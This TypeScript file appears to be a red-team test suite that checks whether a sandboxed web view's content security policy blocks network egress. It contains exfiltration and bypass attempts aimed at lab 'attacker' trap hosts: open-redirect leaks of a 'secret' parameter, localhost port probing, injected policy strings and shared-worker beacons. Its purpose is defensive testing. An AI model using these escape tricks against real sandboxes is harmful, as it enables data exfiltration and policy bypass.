import { setTimeout as sleep } from "node:timers/promises";
import type { TargetAddresses } from "../lab/target-addresses.ts";
import { scriptedView, viewDocument } from "../stage/view-document.ts";
import { type Check, hasSaid, unless, unlessTried } from "./check.ts";

const SETTLE = 600;

/** Reaching further than what was declared, and what an allowed request tells. */
export const NETWORK_CHECKS: readonly Check[] = [
  {
    id: "declared-only",
    title: "a declared host is reached; its sub-domain, another port and a socket to it are not",
    entries: [25, 26, 31],
    stages: ["tier-1", "tier-2"],
    quick: true,
    async run(scene) {
      const [declared, neighbour] = [await scene.trap(), await scene.trap()];
      const html = scriptedView(
        async (good: TargetAddresses, other: TargetAddresses) => {
          const { host, hostname } = new URL(good.declarable);
          await fetch(`${good.declarable}/declared`, { mode: "no-cors" }).then(
            () => say("reached"),
            () => say("refused"),
          );
          const tries = [
            `https://${other.host}.${host}/sub`,
            `http://${hostname}:${other.tcp}/port`,
            `https://${hostname}:${other.tcp}/port`,
          ];
          await Promise.allSettled(tries.map((url) => fetch(url, { mode: "no-cors" })));
          new WebSocket(`wss://${host}/socket`).onerror = () => say("done");
          setTimeout(() => say("done"), 1500);
        },
        declared,
        neighbour,
      );
      const csp = { connectDomains: [declared.declarable] };
      const host = await scene.open([{ name: "view", server: declared.cell, html, csp }]);
      const log = await host.until((lines) => hasSaid(lines, "done"));
      const requests = scene.laboratory.attacker.requests.filter(
        ({ cell }) => cell === declared.cell,
      );
      return [
        ...unlessTried(hasSaid(log, "reached"), "the declared host was not reached"),
        ...unless(
          requests.every(({ path }) => path === "/declared"),
          "more than the declared request arrived",
        ),
        ...unless(!declared.caught().some((hit) => hit.startsWith("ws")), "the socket was opened"),
        ...unless(
          requests.every(({ referrer }) => referrer === undefined),
          "a referrer was sent",
        ),
        ...neighbour.caught().map((hit) => `undeclared neighbour got ${hit}`),
      ];
    },
  },
  {
    id: "declared-redirect",
    title: "an open redirect on a declared host leads nowhere else",
    entries: [24],
    stages: ["tier-1", "tier-2"],
    async run(scene) {
      const [declared, evil] = [await scene.trap(), await scene.trap()];
      const html = scriptedView(
        async (good: TargetAddresses, bad: TargetAddresses) => {
          const to = encodeURIComponent(`${bad.tls}/c?secret=1`);
          await fetch(`${good.declarable}/redirect?to=${to}`, { mode: "no-cors" }).catch(() => {});
          const image = new Image();
          image.onerror = () => say("done");
          image.src = `${good.declarable}/redirect?to=${to}`;
        },
        declared,
        evil,
      );
      const csp = {
        connectDomains: [declared.declarable],
        resourceDomains: [declared.declarable],
      };
      const host = await scene.open([{ name: "view", server: declared.cell, html, csp }]);
      await host.until((lines) => hasSaid(lines, "done"));
      return [
        ...unlessTried(declared.caught().length >= 2, "the redirecting host was not reached"),
        ...evil.caught().map((hit) => `the redirect's target got ${hit}`),
      ];
    },
  },
  {
    id: "local-network",
    title: "ports of the user's own machine are not reached by address",
    entries: [28],
    stages: ["tier-1", "tier-2", "tier-3"],
    async run(scene) {
      const trap = await scene.trap();
      const html = scriptedView(async ({ tcp, udp }: TargetAddresses) => {
        for (const name of ["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "2130706433"]) {
          fetch(`http://${name}:${tcp}/`, { mode: "no-cors" }).catch(() => {});
          new Image().src = `http://${name}:${tcp}/img`;
          try {
            new WebSocket(`ws://${name}:${tcp}/`);
            new WebTransport(`https://${name}:${udp}/`).ready.catch(() => {});
          } catch {
            // Refused at once is refused.
          }
        }
        say("done");
      }, trap);
      const host = await scene.open([{ name: "view", server: trap.cell, html }]);
      const log = await host.until((lines) => hasSaid(lines, "done"));
      await sleep(SETTLE);
      return [
        ...unlessTried(hasSaid(log, "done"), "the view did not run"),
        ...trap.caught().map((hit) => `the local port got ${hit}`),
      ];
    },
  },
  {
    id: "markup-tricks",
    title: "markup before the head, an own policy, a base and a refresh change nothing",
    entries: [33, 102],
    stages: ["tier-1", "tier-2", "tier-3"],
    async run(scene) {
      const trap = await scene.trap();
      const { base } = trap;
      const early = [
        `<img src="${base}/img?early"><base href="${base}/"><link rel="stylesheet" href="css?early">`,
        `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${base}/report">`,
        `<link rel="preconnect" href="${base}"><script src="js?early"></script><img src="img?early">`,
      ].join("");
      const late = viewDocument(`say("up")`);
      const refresh = `<meta http-equiv="refresh" content="1;url=${base}/refresh">`;
      const host = await scene.open([
        { name: "view", server: `${trap.cell}-a`, html: early + late },
        { name: "quirks", server: `${trap.cell}-b`, html: `\u0000<!--><html>${early}${late}` },
        { name: "static", server: `${trap.cell}-c`, html: late + refresh },
      ]);
      const log = await host.until(
        (lines) => hasSaid(lines, "up") && lines.some(({ killed }) => killed),
      );
      await sleep(SETTLE);
      return [
        ...unlessTried(hasSaid(log, "up"), "the view did not run"),
        ...unless(
          log.some(({ view, killed }) => view === "static" && killed?.code === "navigation"),
          "a static refresh did not stop the view",
        ),
        ...trap.caught().map((hit) => `attacker got ${hit}`),
      ];
    },
  },
  {
    id: "hostile-domains",
    title: "no declared string opens the policy",
    entries: [30, 93, 94, 96, 97],
    stages: ["tier-1"],
    async run(scene) {
      const trap = await scene.trap();
      const { origin, host, hostname } = new URL(trap.base);
      const strings = [
        ...["*", "https:", "http://*:*", "*.test", "data:", "'unsafe-eval'", "https://*"],
        ...[origin, host, hostname, origin.toUpperCase(), `${origin}/?q`, `${origin}/path`],
        ...[" ", "\t", "\f", "\r\n", "\u00a0", "\u200b", ",", ";"].map(
          (gap) => `https://api.example.com${gap}${origin}`,
        ),
        ...[`api.example.com; connect-src ${origin}; img-src *`, `https://user@${host}`],
        ...["https://127.0.0.1", "https://2130706433", "https://0x7f.1", "*.vercel.app"],
      ];
      const csp = Object.fromEntries(
        ["connectDomains", "resourceDomains", "frameDomains", "baseUriDomains"].map((list) => [
          list,
          strings,
        ]),
      );
      const html = scriptedView(async ({ base, tcp }: TargetAddresses) => {
        new Image().src = `${base}/img`;
        document.body.insertAdjacentHTML("beforeend", `<iframe src="${base}/frame"></iframe>`);
        await Promise.allSettled([fetch(`${base}/c`), fetch(`https://127.0.0.1:${tcp}/`)]);
        say("done");
      }, trap);
      const opened = await scene.open([{ name: "view", server: trap.cell, html, csp }]);
      const log = await opened.until((lines) => hasSaid(lines, "done"));
      await sleep(SETTLE);
      const granted = opened.prepared.registered.view?.egress ?? [];
      return [
        ...unlessTried(hasSaid(log, "done"), "the view did not run"),
        ...granted
          .filter((source) => source !== "https://api.example.com")
          .map((source) => `granted: ${source}`),
        ...trap.caught().map((hit) => `attacker got ${hit}`),
      ];
    },
  },
  {
    id: "shared-worker-after-unmount",
    title: "a shared worker sends nothing, neither while its view lives nor after",
    entries: [20],
    stages: ["tier-1", "tier-2"],
    async run(scene) {
      const trap = await scene.trap();
      const html = scriptedView(({ base }: TargetAddresses) => {
        const body = `setInterval(()=>fetch("${base}/worker",{mode:"no-cors"}).catch(()=>{}),100)`;
        new SharedWorker(URL.createObjectURL(new Blob([body])));
        say("up");
      }, trap);
      const host = await scene.open([{ name: "view", server: trap.cell, html }]);
      const log = await host.until((lines) => hasSaid(lines, "up"));
      await host.page.evaluate(() => window.redteam.ports.view?.postMessage({ close: true }));
      await sleep(SETTLE);
      return [
        ...unlessTried(hasSaid(log, "up"), "the view did not run"),
        ...trap.caught().map((hit) => `attacker got ${hit}`),
      ];
    },
  },
  {
    id: "second-wall",
    title: "the view's own policy refuses each kind of request by itself",
    entries: [1, 5, 7, 9, 23, 34],
    stages: ["tier-1", "tier-2", "tier-3"],
    quick: true,
    async run(scene) {
      const trap = await scene.trap();
      const wanted = ["connect-src", "img-src", "script-src-elem", "frame-src", "object-src"];
      const html = scriptedView(({ base }: TargetAddresses) => {
        document.addEventListener("securitypolicyviolation", (event) =>
          say(event.effectiveDirective),
        );
        fetch(`${base}/c`).catch(() => {});
        document.body.insertAdjacentHTML(
          "beforeend",
          `<img src="${base}/img"><object data="${base}/o"></object><iframe src="${base}/f"></iframe><base href="${base}/"><iframe name="nested"></iframe><form target="nested" action="${base}/c"></form>`,
        );
        const script = document.createElement("script");
        script.src = `${base}/js`;
        document.body.append(script);
        setTimeout(() => document.forms[0]?.submit(), 500);
      }, trap);
      const host = await scene.open([{ name: "view", server: trap.cell, html }]);
      const all = [...wanted, "base-uri", "form-action"];
      const log = await host.until(
        (lines) => all.every((directive) => hasSaid(lines, directive)),
        6000,
      );
      return [
        ...all.flatMap((directive) => unless(hasSaid(log, directive), `${directive} was silent`)),
        ...trap.caught().map((hit) => `attacker got ${hit}`),
      ];
    },
  },
];
